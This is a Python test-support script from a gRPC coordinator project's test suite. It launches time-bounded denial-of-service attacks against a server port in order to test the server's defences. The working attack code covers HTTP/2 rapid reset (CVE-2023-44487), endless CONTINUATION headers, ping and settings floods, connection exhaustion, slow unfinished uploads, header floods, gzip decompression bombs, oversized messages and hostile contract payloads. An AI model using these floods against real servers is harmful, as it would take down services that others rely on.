"""Attacks on a port of weft's, each bounded in time and count: `python -m tests.support.attacker NAME TARGET SECONDS`.

In a process of its own, so that it takes no time of whoever measures. Prints BEGUN, and in the end what it did as JSON.
"""

from __future__ import annotations

import asyncio
import contextlib
import functools
import json
import os
import random
import struct
import sys
import time
import zlib
from collections.abc import Callable, Iterator

import grpc.aio

from tests.support import lightweight
from tests.support import raw_http2 as http2
from tests.support.hostile_contracts import HOSTILE, METHOD, renamed
from tests.support.raw_http2 import RawConnection, call_headers, frame
from weft.v1 import session_pb2

MIB = 1 << 20
ECHO = "/probe.v1.ProbeService/Echo"
SUBMIT = "/weft.v1.CoordinatorService/SubmitTask"
SUBMITS = "/weft.v1.CoordinatorService/SubmitTasks"
CONNECTIONS = 10_000
BEGUN = "begun"
UNFINISHED = 32
FLOODED_STREAMS = 200
# Fewer than a connection may have, so that the test is short.
CALLS_OPEN = 1000

Done = dict[str, int]
Attack = Callable[[str, float], Done]
ATTACKS: dict[str, Attack] = {}


def attack(act: Attack) -> Attack:
    ATTACKS[act.__name__] = act
    return act


@contextlib.contextmanager
def _until_closed() -> Iterator[None]:
    """The server may close the connection: that is a defence."""
    with contextlib.suppress(OSError):
        yield


def _floods(target: str, seconds: float, burst: Callable[[RawConnection], int], *, reads: bool) -> Done:
    """Send bursts on one connection after another."""
    ends_at, sent, connections = time.monotonic() + seconds, 0, 0
    while time.monotonic() < ends_at:
        connections += 1
        with _until_closed(), RawConnection(target) as connection:
            while time.monotonic() < ends_at:
                sent += burst(connection)
                while reads and connection.pump(0.0):
                    pass
    return {"sent": sent, "connections": connections}


@attack
def resets(target: str, seconds: float) -> Done:
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    headers, at = call_headers(ECHO), {"stream": 1, "connection": 0}

    def burst(connection: RawConnection) -> int:
        if at["connection"] != id(connection):
            at["connection"], at["stream"] = id(connection), 1
        streams = range(at["stream"], at["stream"] + 200, 2)
        at["stream"] += 200
        connection.send(
            *(
                frame(http2.HEADERS, http2.END_HEADERS, each, headers)
                + frame(http2.RST_STREAM, 0, each, http2.CANCEL)
                for each in streams
            )
        )
        return len(streams)

    return _floods(target, seconds, burst, reads=True)


@attack
def whole_calls(target: str, seconds: float) -> Done:
    """Durable calls, each of them fine, as fast as the connection's bound on streams allows: more than the coordinator has CPU for."""
    headers, body = call_headers(ECHO), http2.message(b"")
    ends_at, sent, ended = time.monotonic() + seconds, 0, 0
    with _until_closed(), RawConnection(target) as connection:
        while time.monotonic() < ends_at:
            streams = range(2 * sent + 1, 2 * min(sent + 100, ended + CALLS_OPEN) + 1, 2)
            sent += len(streams)
            if streams:
                connection.send(
                    *(
                        frame(http2.HEADERS, http2.END_HEADERS, each, headers)
                        + frame(http2.DATA, http2.END_STREAM, each, body)
                        for each in streams
                    )
                )
            connection.pump(0.0 if streams else 0.05)
            ended += sum(flags & http2.END_STREAM for flags in connection.headers_seen)
            connection.headers_seen.clear()
    return {"sent": sent, "ended": ended}


@attack
def continuations(target: str, seconds: float) -> Done:
    """Headers that never end (CVE-2024-27316 and its kin)."""
    more = http2.literal(b"x-more", b"y" * 16_000)
    begun: set[int] = set()

    def burst(connection: RawConnection) -> int:
        if id(connection) not in begun:
            begun.add(id(connection))
            connection.send(frame(http2.HEADERS, 0, 1, call_headers(ECHO)))
        connection.send(*[frame(http2.CONTINUATION, 0, 1, more)] * 10)
        return 10

    return _floods(target, seconds, burst, reads=False)


@attack
def pings(target: str, seconds: float) -> Done:
    """Pings whose answers are not read."""
    many = frame(http2.PING, body=b"12345678") * 1000
    return _floods(target, seconds, lambda connection: connection.send(many) or 1000, reads=False)


@attack
def settings(target: str, seconds: float) -> Done:
    """Settings whose acknowledgements are not read."""
    many = frame(http2.SETTINGS, body=struct.pack(">HI", 4, 65_535)) * 1000
    return _floods(target, seconds, lambda connection: connection.send(many) or 1000, reads=False)


@attack
def garbage(target: str, seconds: float) -> Done:
    """A good preface, then frames of any kind and size."""
    rng = random.Random(1)

    def burst(connection: RawConnection) -> int:
        connection.send(
            *(
                frame(
                    rng.randrange(12), rng.randrange(256), rng.randrange(8), rng.randbytes(rng.randrange(64))
                )
                for _ in range(10)
            )
        )
        return 10

    return _floods(target, seconds, burst, reads=True)


@attack
def idle_connections(target: str, seconds: float) -> Done:
    """Thousands of connections without a call."""
    held: list[RawConnection] = []
    refused = 0
    for _ in range(CONNECTIONS):
        try:
            held.append(RawConnection(target, window=False))
        except OSError:
            refused += 1
    time.sleep(seconds)
    for each in held:
        each.close()
    return {"connections": len(held), "refused": refused}


@attack
def unfinished(target: str, seconds: float) -> Done:
    """Requests of almost the largest size, which never come to their end."""
    size, ends_at, sent = 15 * MIB, time.monotonic() + seconds, 0
    content = bytes(http2.FRAME_BYTES)
    with _until_closed(), RawConnection(target) as connection:
        streams = [1 + 2 * number for number in range(UNFINISHED)]
        left = dict.fromkeys(streams, size - 1000)
        for stream in streams:
            connection.send(frame(http2.HEADERS, http2.END_HEADERS, stream, call_headers(SUBMIT)))
            connection.send_data(stream, http2.message(b"", says_bytes=size))
        while time.monotonic() < ends_at:
            moved = 0
            for stream in streams:
                moved += (now := connection.send_data(stream, content[: left[stream]]))
                left[stream] -= now
            sent += moved
            connection.pump(0.0 if moved else 0.1)
    return {"sent_mib": sent // MIB}


@attack
def header_floods(target: str, seconds: float) -> Done:
    """Streams that stay open, each with almost the most metadata that is allowed."""
    large = [http2.literal(b"x-%d" % number, b"v" * 15_000) for number in range(60)]
    opened, ends_at = 0, time.monotonic() + seconds
    with _until_closed(), RawConnection(target) as connection:
        for stream in range(1, 2 * FLOODED_STREAMS, 2):
            connection.send(
                frame(http2.HEADERS, 0, stream, call_headers(SUBMITS)),
                *(frame(http2.CONTINUATION, 0, stream, each) for each in large[:-1]),
                frame(http2.CONTINUATION, http2.END_HEADERS, stream, large[-1]),
            )
            opened += 1
            connection.pump(0.0)
        while time.monotonic() < ends_at:
            connection.pump(0.1)
    return {"opened": opened}


@functools.cache
def _packed() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join(packer.compress(bytes(MIB)) for _ in range(1024)) + packer.flush()


@attack
def bombs(target: str, seconds: float) -> Done:
    """Messages of a MiB that are a GiB when they are decompressed."""
    packed = _packed()
    ends_at, sent, refused = time.monotonic() + seconds, 0, 0
    while time.monotonic() < ends_at:
        with _until_closed(), RawConnection(target) as connection:
            for number, path in enumerate((ECHO, SUBMIT)):
                stream, content = 1 + 2 * number, http2.message(packed, compressed=True)
                headers = call_headers(path, (b"grpc-encoding", b"gzip"))
                connection.send(frame(http2.HEADERS, http2.END_HEADERS, stream, headers))
                while content and time.monotonic() < ends_at:
                    content = content[connection.send_data(stream, content) :]
                    connection.pump(0.0)
                connection.send(frame(http2.DATA, http2.END_STREAM, stream))
                sent += 1
            while connection.pump(0.2):
                pass
            refused += sum(kind == http2.HEADERS for kind, _, _ in connection.seen)
    return {"sent": sent, "refused": refused}


@attack
def oversize(target: str, seconds: float) -> Done:
    """Messages that claim to be of 4 GiB, paths and ids of almost a MiB."""

    def burst(connection: RawConnection) -> int:
        stream = 1
        for path, says in ((SUBMIT, (1 << 32) - 1), ("/" + "p" * 900_000, 0), (ECHO, 1 << 31)):
            blocks = call_headers(path)
            parts = [blocks[at : at + http2.FRAME_BYTES] for at in range(0, len(blocks), http2.FRAME_BYTES)]
            connection.send(frame(http2.HEADERS, 0, stream, parts[0]))
            connection.send(*(frame(http2.CONTINUATION, 0, stream, each) for each in parts[1:]))
            connection.send(frame(http2.CONTINUATION, http2.END_HEADERS, stream))
            connection.send_data(stream, http2.message(b"x", says_bytes=says))
            stream += 2
        connection.pump(0.05)
        connection.close()
        return 3

    return _floods(target, seconds, burst, reads=False)


@attack
def contracts(target: str, seconds: float) -> Done:
    """Agents with contracts that are made to harm who loads them."""

    async def send_each(ends_at: float) -> int:
        sent = 0
        async with grpc.aio.insecure_channel(target) as channel:
            while time.monotonic() < ends_at:
                for name, make in HOSTILE.items():
                    contract, sent = renamed(make(), sent), sent + 1
                    hello = lightweight.hello(f"hostile-{name}", methods=[METHOD], contract=contract)
                    messages = (
                        session_pb2.ConnectRequest(hello=hello),
                        session_pb2.ConnectRequest(
                            contract=session_pb2.Contract(file_descriptor_set=contract)
                        ),
                    )
                    left_s = max(0.1, ends_at - time.monotonic())
                    # One that is taken stays until its time is over.
                    with contextlib.suppress(AssertionError):
                        await lightweight.refusal(channel, *messages, timeout_s=min(left_s, 10.0))
                    if time.monotonic() > ends_at:
                        break
        return sent

    return {"sent": asyncio.run(send_each(time.monotonic() + seconds))}


def main() -> None:
    name, target, seconds = sys.argv[1:]
    if name == bombs.__name__:
        # Takes seconds, which are none of the attack.
        _packed()
    print(BEGUN, flush=True)
    print(json.dumps(ATTACKS[name](target, float(seconds))), flush=True)
    # Thousands of sockets need not be closed one by one.
    os._exit(0)


if __name__ == "__main__":
    main()
